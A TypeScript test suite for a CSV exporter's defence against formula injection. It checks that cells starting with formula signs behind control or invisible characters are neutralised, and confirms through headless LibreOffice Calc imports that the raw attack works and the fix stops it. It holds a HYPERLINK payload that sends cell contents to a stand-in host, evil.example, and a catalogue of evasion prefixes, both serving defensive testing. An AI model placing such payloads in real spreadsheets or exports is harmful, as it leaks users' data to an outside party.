import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { neutralizeCell, toCsv } from '../../src/core/csv/index';

// Prefixes a spreadsheet importer skips (or a person's paste carries) before a formula sign.
const SKIPPABLE = ['\u0000', '\u0001', '\u0008', '\t', '\u000b', '\u001b', '\u001f', '\u007f', '\u0085', '\u009b', ' ', '\u00a0',
  '\u00ad', '\u2007', '\u200b', '\u200e', '\u2028', '\u202e', '\u2066', '\u3000', '\ufeff', '\u0000\u0000 \t'];
const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212'];
const PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"x")';

describe('hostile: CSV injection', () => {
  it('neutralises a formula sign after any run of control characters, spaces or invisible characters', () => {
    for (const pre of SKIPPABLE) {
      for (const sign of SIGNS) {
        const text = pre + sign + PAYLOAD;
        assert.equal(neutralizeCell(text), "'" + text, JSON.stringify(pre + sign));
      }
    }
  });

  it('neutralises such a prefix on every line of a multi-line value', () => {
    assert.equal(neutralizeCell('note\n\u0000=1+1'), "note\n'\u0000=1+1");
    assert.equal(neutralizeCell('note\r\n \uff1d1'), "note\r\n' \uff1d1");
  });

  it('leaves text without a formula sign, and numbers, as they are', () => {
    for (const t of ['\u0000abc', ' indented', 'a=b', 'Rs 16,300 crore', '\u00a0100']) {
      assert.equal(neutralizeCell(t), t);
    }
    assert.equal(toCsv([[-5, -0.25, 1e-7, 0]]), '-5,-0.25,1e-7,0');
  });

  it('stays linear on values made of skippable characters and line breaks', () => {
    // Would be quadratic if the line-start lookahead ran over further line breaks.
    const text = 'x' + '\n \u0000'.repeat(300_000);
    assert.equal(neutralizeCell(text), text);
    assert.equal(neutralizeCell(' '.repeat(1_000_000) + 'x').length, 1_000_001);
  });

  describe('imported by LibreOffice Calc (soffice --headless)', function () {
    this.timeout(180_000);
    let dir = '';
    before(() => { dir = mkdtempSync(join(tmpdir(), 'mw-csv-inj-')); });
    after(() => { if (dir) rmSync(dir, { recursive: true, force: true }); });
    /** Calc's CSV import with its defaults (UTF-8, comma, formulas evaluated), saved as flat ODS. */
    function importWithLibreOffice(csvPath: string): void {
      // Own profile: a concurrent soffice (another test, a person) must not share the lock.
      execFileSync('soffice', [`-env:UserInstallation=${pathToFileURL(join(dir, 'profile')).href}`, '--headless',
        '--infilter=CSV:44,34,76,1', '--convert-to', 'fods', '--outdir', dir, csvPath], { stdio: 'ignore', timeout: 170_000 });
    }

    it('turns none of the hostile cells into a formula, and keeps numbers numeric', () => {
      const hostile: string[] = [];
      for (const pre of ['', ...SKIPPABLE]) for (const sign of SIGNS) hostile.push(pre + sign + '1+1');
      hostile.push('a\n=1+1', 'a\r\n\u0000@SUM(1)');
      const rows = hostile.map((t, i) => [t, -(i + 1)]);
      const csvPath = join(dir, 'hostile.csv');
      writeFileSync(csvPath, toCsv(rows) + '\r\n', 'utf8');
      importWithLibreOffice(csvPath);
      const xml = readFileSync(join(dir, 'hostile.fods'), 'utf8');
      assert.ok(!/table:formula=/.test(xml), `LibreOffice made a formula: ${/<table:table-cell[^>]*table:formula[^>]*>/.exec(xml)?.[0]}`);
      const floats = [...xml.matchAll(/office:value-type="float" office:value="(-?[\d.]+)"/g)].map((m) => Number(m[1]));
      assert.deepEqual(floats, rows.map((r) => r[1]));
    });

    it('would have made a formula of the NUL-prefixed cell without neutralising (the attack is real)', () => {
      const csvPath = join(dir, 'raw.csv');
      writeFileSync(csvPath, '"\u0000=1+1",x\r\n', 'utf8');
      importWithLibreOffice(csvPath);
      assert.match(readFileSync(join(dir, 'raw.fods'), 'utf8'), /table:formula="of:=1\+1"/);
    });
  });
});
